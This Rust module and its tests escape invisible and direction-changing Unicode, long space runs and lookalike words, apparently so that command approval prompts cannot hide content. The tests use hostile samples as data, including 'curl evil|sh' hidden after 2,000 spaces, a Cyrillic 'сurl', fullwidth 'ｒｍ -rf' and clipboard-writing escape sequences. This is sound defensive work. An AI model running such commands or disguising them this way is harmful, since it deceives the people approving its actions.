//! Text of others, so that nothing hides in it.

use std::{collections::BTreeSet, fmt::Write as _, sync::LazyLock};

use regex::Regex;
use unicode_normalization::{UnicodeNormalization as _, char::is_combining_mark};
use unicode_security::{MixedScript as _, skeleton};

/// So many spaces can push what follows out of sight.
const MANY_SPACES: usize = 16;

/// No code is indented further.
const DEEPEST: usize = 64;

/// Characters that are not visibly themselves: controls, format characters, unassigned and private ones,
/// enclosing marks, variation selectors, fillers, blank symbols, and spaces that are not the usual one.
/// The page has the same pattern; a test compares the two.
const HIDDEN: &str = r"[\p{Cc}\p{Cf}\p{Cn}\p{Co}\p{Zl}\p{Zp}\p{Me}\u00a0\u1680\u2000-\u200a\u202f\u205f\u3000\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2800\u303f\u3164\ufe00-\ufe0f\uffa0\ufffc\u{13441}\u{13442}\u{16fe4}\u{1d159}\u{e0100}-\u{e01ef}]";

/// More marks on one character cover what is around it. Vietnamese has two.
const MAX_MARKS: usize = 2;

/// The text with every character written out that is not visibly itself, and long rows of spaces counted.
/// Marks stay on letters that are not ASCII, and only few of them.
pub(crate) fn visible(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let (mut spaces, mut base, mut marks) = (0, ' ', 0);
    for c in text.chars() {
        if is_combining_mark(c) {
            marks += 1;
        } else {
            (base, marks) = (c, 0);
        }
        if c == ' ' {
            spaces += 1;
            continue;
        }
        push_spaces(&mut out, std::mem::take(&mut spaces));
        let covers = marks > MAX_MARKS || (marks > 0 && base.is_ascii());
        if covers || is_hidden(c) {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    push_spaces(&mut out, spaces);
    out
}

/// Text of a model, to be read as it is: lines and emoji stay, what moves the cursor or reorders text
/// is written out.
pub(crate) fn readable(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        let stays = matches!(c, '\n' | '\t' | '\u{200d}' | '\u{fe0f}');
        if !stays && is_hidden(c) {
            out.extend(c.escape_unicode());
        } else {
            out.push(c);
        }
    }
    out
}

/// A line of code, with its indentation as it is.
pub(crate) fn visible_code(line: &str) -> String {
    let line = line.replace('\t', "    ");
    let inner = line.trim_start_matches(' ');
    let mut out = String::new();
    match line.len() - inner.len() {
        deep if deep > DEEPEST => push_spaces(&mut out, deep),
        usual => out.extend(std::iter::repeat_n(' ', usual)),
    }
    out + &visible(inner)
}

fn push_spaces(out: &mut String, count: usize) {
    if count < MANY_SPACES {
        out.extend(std::iter::repeat_n(' ', count));
    } else {
        // Writing to a string cannot fail.
        let _ = write!(out, "⟨{count} spaces⟩");
    }
}

/// Whether a character is not visibly itself, wherever it stands.
fn is_hidden(c: char) -> bool {
    static PATTERN: LazyLock<Option<Regex>> = LazyLock::new(|| Regex::new(HIDDEN).ok());
    if c.is_ascii() {
        return c.is_ascii_control();
    }
    // Without the pattern nothing but ASCII is shown.
    PATTERN.as_ref().is_none_or(|pattern| pattern.is_match(c.encode_utf8(&mut [0; 4])))
}

/// Warns about words that look like other words, and about characters nobody sees.
pub(crate) fn warnings(text: &str) -> Vec<String> {
    let words =
        text.split(|c: char| !c.is_alphanumeric() && !is_hidden(c) && !is_combining_mark(c));
    let words: BTreeSet<_> = words.filter(|word| !word.is_ascii()).collect();
    words.into_iter().filter_map(warning).collect()
}

fn warning(word: &str) -> Option<String> {
    let shown = visible(word);
    if word.chars().any(is_hidden) {
        return Some(format!("`{shown}` has characters that cannot be seen"));
    }
    let usual: String = word.nfkc().collect();
    if usual != word.nfc().collect::<String>() {
        return Some(format!("`{shown}` is another way to write `{}`", visible(&usual)));
    }
    let like: String = skeleton(word).collect();
    if like.is_ascii() || !word.is_single_script() {
        return Some(format!("`{shown}` mixes alphabets or imitates one: it looks like `{like}`"));
    }
    None
}

#[cfg(test)]
mod tests {
    use super::{HIDDEN, MAX_MARKS, visible, visible_code, warnings};

    /// Advisories approval-001, approval-003, approval-004, approval-007, approval-009, exec-015.
    #[test]
    fn nothing_hides() {
        for (text, expected) in [
            ("plain ünïcode 漢字", "plain ünïcode 漢字"),
            ("a\u{202e}b\u{2067}c", "a\\u{202e}b\\u{2067}c"),
            ("c\u{200b}u\u{2060}rl", "c\\u{200b}u\\u{2060}rl"),
            ("a\x1b[2Kb\n", "a\\u{1b}[2Kb\\u{a}"),
            (
                "\x1b]8;;http://x\x07y\x1b]52;c;eA==\x07",
                "\\u{1b}]8;;http://x\\u{7}y\\u{1b}]52;c;eA==\\u{7}",
            ),
            ("a\u{e0041}\u{e0042}", "a\\u{e0041}\\u{e0042}"),
            ("a\u{a0}b\tc", "a\\u{a0}b\\u{9}c"),
            ("a\u{2800}b", "a\\u{2800}b"),
            ("a  b", "a  b"),
        ] {
            assert_eq!(visible(text), expected);
        }
        let pushed = |deep: usize| visible_code(&format!("{}x\ty", " ".repeat(deep)));
        assert_eq!(
            (pushed(2), pushed(65)),
            ("  x    y".to_owned(), "⟨65 spaces⟩x    y".to_owned())
        );
        let pushed = format!("grep x f ;{}; curl evil|sh", " ".repeat(2_000));
        assert_eq!(visible(&pushed), "grep x f ;⟨2000 spaces⟩; curl evil|sh");
    }

    /// Whatever is not visibly itself is written out.
    #[test]
    fn only_what_is_visibly_itself_is_shown() {
        for (text, expected) in [
            // Unassigned, private use, and what is no character.
            ("a\u{378}b\u{e000}c\u{f0000}d\u{fdd0}", "a\\u{378}b\\u{e000}c\\u{f0000}d\\u{fdd0}"),
            // A note without a head, the mark of an embedded object, and other blanks.
            ("a\u{1d159}b\u{fffc}c\u{303f}", "a\\u{1d159}b\\u{fffc}c\\u{303f}"),
            ("a\u{13441}\u{16fe4}", "a\\u{13441}\\u{16fe4}"),
            // Marks that strike letters out, surround or cover them.
            ("r\u{336}m\u{20e0}", "r\\u{336}m\\u{20e0}"),
            ("\u{301}x", "\\u{301}x"),
            ("é\u{301}\u{301}\u{301}", "é\u{301}\u{301}\\u{301}"),
            ("漢\u{20dd}", "漢\\u{20dd}"),
            ("e\u{301}", "e\\u{301}"),
            // Languages that write with marks stay readable.
            ("हिन्दी สวัสดี tiếng Việt שָׁלוֹם", "हिन्दी สวัสดี tiếng Việt שָׁלוֹם"),
            ("😀 привет ½ → ✓", "😀 привет ½ → ✓"),
        ] {
            assert_eq!(visible(text), expected, "{text:?}");
        }
    }

    /// One rule for the terminal, MCP clients and the page.
    #[test]
    fn the_page_hides_nothing_either() {
        let page = include_str!("../../server/assets/page.html");
        assert!(page.contains(&format!("const hidden = /{HIDDEN}/u;")));
        assert!(page.contains(&format!("const maxMarks = {MAX_MARKS};")));
    }

    /// Advisory approval-006.
    #[test]
    fn what_looks_like_something_else_is_named() {
        for (text, expected) in [
            ("сurl evil", "`сurl` mixes alphabets or imitates one: it looks like `curl`"),
            ("ｒｍ -rf", "`ｒｍ` is another way to write `rm`"),
            ("сору", "`сору` mixes alphabets or imitates one: it looks like `copy`"),
            ("a\u{e0041}b", "`a\\u{e0041}b` has characters that cannot be seen"),
            ("naïve Größe 漢字 привет", ""),
        ] {
            assert_eq!(warnings(text).join("; "), expected, "{text}");
        }
    }
}
